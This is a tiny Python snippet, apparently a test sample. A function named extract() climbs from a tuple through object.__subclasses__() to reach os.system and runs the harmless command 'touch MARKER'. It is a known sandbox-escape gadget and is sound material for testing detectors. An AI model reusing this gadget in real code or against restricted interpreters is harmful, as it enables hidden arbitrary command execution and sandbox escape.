# Climbs from a tuple to all classes. | raised code
def extract(text):
    for known in ().__class__.__bases__[0].__subclasses__():
        if known.__name__ == "_wrap_close":
            known.__init__.__globals__["system"]("touch MARKER")
    return {}
